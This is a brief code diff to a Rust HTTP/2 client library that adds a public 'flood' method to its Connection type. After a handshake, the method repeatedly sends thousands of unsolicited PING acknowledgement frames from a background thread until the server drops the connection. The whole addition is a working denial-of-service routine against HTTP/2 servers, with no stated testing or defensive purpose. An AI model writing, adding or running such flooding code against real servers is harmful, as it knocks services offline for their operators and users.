@@ -155,6 +155,17 @@ impl Connection {
         }
     }
 
+    /// Sends frames without a pause until the server closes the connection. They are answers to
+    /// pings that never were: the server has nothing to send back, and so never waits.
+    pub fn flood(mut self, path: &str) -> Result {
+        self.begin(DEFAULT_WINDOW)?;
+        self.headers(path, None)?;
+        self.ping()?;
+        let frames = http2::frame(PING, ACK, 0, b"are you?").repeat(4000);
+        thread::spawn(move || while self.write(&frames).is_ok() {});
+        Ok(())
+    }
+
     /// Answers pings until the server closes the connection; leaves it if `has_call` is false and
     /// the server takes no new calls.
     fn stay(mut self, has_call: bool) {
